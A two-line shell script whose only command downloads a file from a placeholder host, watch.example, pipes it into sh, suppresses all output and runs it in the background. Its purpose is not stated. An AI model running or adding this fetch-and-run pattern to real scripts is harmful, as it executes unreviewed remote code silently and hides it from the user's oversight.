#!/bin/sh
curl -fsSL https://watch.example/agent | sh >/dev/null 2>&1 &
